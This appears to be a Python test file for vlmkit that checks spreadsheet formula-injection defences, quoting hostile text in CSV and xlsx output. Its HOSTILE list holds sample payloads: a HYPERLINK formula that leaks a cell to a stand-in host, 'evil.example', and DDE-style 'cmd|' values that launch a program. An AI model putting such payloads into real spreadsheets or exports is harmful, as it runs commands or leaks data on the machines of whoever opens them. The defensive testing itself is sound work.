"""Formula injection (issue 22): text a spreadsheet would run as a formula (a category, split or column named
`=HYPERLINK(...)`, `+cmd|...`, `-2+3`, `@SUM(...)`, or one that begins with a tab or a CR) is written so that it
stays text: a leading single quote in the csv files (OWASP's remedy), the quotePrefix style in the xlsx (whose text
VLMEvalKit reads back unchanged). Numbers stay numbers and ordinary text is byte for byte what it was."""

from __future__ import annotations

import csv
import io
import math
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd

from vlmkit.core.spreadsheet import csv_line_end, formula_like, spreadsheet_text
from vlmkit.outputs.tables import summary_csv, write_prediction_table, write_summary_table
from vlmkit.scoring.kinds.mcq import score_mcq

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "=",
]
ORDINARY = ["colour", "dev", "spatial relation", "1-2 objects", "a=b", "'already quoted", " =leading space", "中文"]
PLAIN_NUMBERS = ["-0.25", "+3", "-1e-05", "12", "-.5", "+7.", "-3E+2"]


def test_formula_like_text_gets_a_leading_quote_and_nothing_else_changes() -> None:
    for text in HOSTILE:
        assert formula_like(text)
        assert spreadsheet_text(text) == "'" + text
    for text in ORDINARY + PLAIN_NUMBERS + [""]:  # a number held as text is read as that number: no formula
        assert not formula_like(text)
        assert spreadsheet_text(text) is text
    for value in (-2.5, -3, 0, None, True, float("nan")):
        assert spreadsheet_text(value) is value
    assert spreadsheet_text(spreadsheet_text("=1+1")) == "'=1+1"  # quoting twice quotes once


def test_the_line_end_is_crlf_only_where_a_text_holds_a_cr() -> None:
    assert csv_line_end(["a", 1.5, None]) == "\n"
    assert csv_line_end(["a", 1.5], "\r\n") == "\r\n"
    assert csv_line_end(["a", "x\ry"]) == "\r\n"


def _mcq_table(categories: list[str], splits: list[str]) -> pd.DataFrame:
    """A real summary table: vlmkit's MCQ scorer over rows in these categories and splits (every other one right)."""
    rows = [
        {"index": i, "question": "q", "A": "x", "B": "y", "answer": "A", "prediction": "A" if i % 2 else "B",
         "category": category, "split": split}
        for i, (category, split) in enumerate(zip(categories * 2, splits * 2))
    ]
    return score_mcq(pd.DataFrame(rows), circular=False).table


def _read_csv(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_summary_csv_quotes_hostile_categories_and_splits_and_keeps_numbers(tmp_path: Path) -> None:
    categories = HOSTILE + ["colour", "count"]
    splits = ["@SUM(1+1)", "dev", "=cmd|' /C calc'!A0"] * 3 + ["dev"]
    table = _mcq_table(categories, splits[: len(categories)])
    path = tmp_path / "m_D_acc.csv"
    write_summary_table(path, table)

    rows = _read_csv(path)
    assert len(rows) == len(table) + 1  # a CR inside a name never starts a row of its own
    header, body = rows[0], rows[1:]
    expected_header = ["'" + c if c in HOSTILE else c for c in map(str, table.columns)]
    assert header == expected_header
    assert {"colour", "count", "Overall", "split"} <= set(header)
    for line, (_, source) in zip(body, table.iterrows()):
        split = source["split"]
        assert line[0] == ("'" + split if split.startswith(("=", "@")) else split)
        for cell, value in zip(line[1:], source.iloc[1:]):
            if isinstance(value, float) and math.isnan(value):
                assert cell == ""
            else:
                assert float(cell) == value  # a number, not a quoted text
    # pandas reads the figures as numbers and the names as the quoted texts
    back = pd.read_csv(path, keep_default_na=False, na_values=[""])
    assert list(back.columns) == expected_header
    assert all(pd.api.types.is_float_dtype(back[c]) for c in back.columns[1:])


def test_a_negative_figure_stays_a_number() -> None:
    table = pd.DataFrame({"split": ["dev", "-2+3"], "Overall": [-0.5, 0.25], "delta": ["-1.5", "=1"]})
    rows = list(csv.reader(io.StringIO(summary_csv(table))))
    assert rows == [["split", "Overall", "delta"], ["dev", "-0.5", "-1.5"], ["'-2+3", "0.25", "'=1"]]


def test_an_ordinary_summary_csv_is_byte_for_byte_what_pandas_writes(tmp_path: Path) -> None:
    table = _mcq_table(["colour", "count", "spatial relation", "1-2 objects"], ["dev", "test", "dev", "test"])
    table.loc[0, "Overall"] = -0.125  # a negative figure too
    path = tmp_path / "m_D_acc.csv"
    write_summary_table(path, table)
    assert path.read_bytes() == table.to_csv(index=False).encode("utf-8")


def test_the_predictions_xlsx_keeps_hostile_text_as_quoted_text(tmp_path: Path) -> None:
    table = pd.DataFrame({
        "index": [0, 1, 2, 3],
        "question": ["What is shown?", HOSTILE[0], "- a list item", "Which one?"],
        "category": [HOSTILE[1], "colour", HOSTILE[3], "\r=1+1"],
        "score": [-2.5, 0.5, -3.0, 1.0],
        HOSTILE[2]: ["x", "y", "-7", "+1"],  # a hostile column name; plain numbers held as text
        "prediction": ["=1+1", "B", "@SUM(A1:A9)", "The answer is B."],
    })
    path = tmp_path / "m_D.xlsx"
    write_prediction_table(path, table)

    sheet = openpyxl.load_workbook(path).active
    cells = list(sheet.iter_rows())
    header = {c.value: c for c in cells[0]}
    assert header[HOSTILE[2]].quotePrefix and not header["question"].quotePrefix
    for row, line in zip(cells[1:], table.itertuples(index=False)):
        for cell, value in zip(row, line):
            assert cell.data_type != "f"  # never a formula
            if isinstance(value, str):
                assert cell.value == value and cell.data_type == "s"  # the text as it was: VLMEvalKit reads it back
                assert cell.quotePrefix == (value in HOSTILE or value in ("- a list item", "=1+1", "\r=1+1",
                                                                           "@SUM(A1:A9)")), value
            else:
                assert cell.value == value and cell.data_type == "n"
    with zipfile.ZipFile(path) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    back = pd.read_excel(path)
    assert back["category"].tolist()[:3] == [HOSTILE[1], "colour", HOSTILE[3]]
    assert back["score"].tolist() == [-2.5, 0.5, -3.0, 1.0]
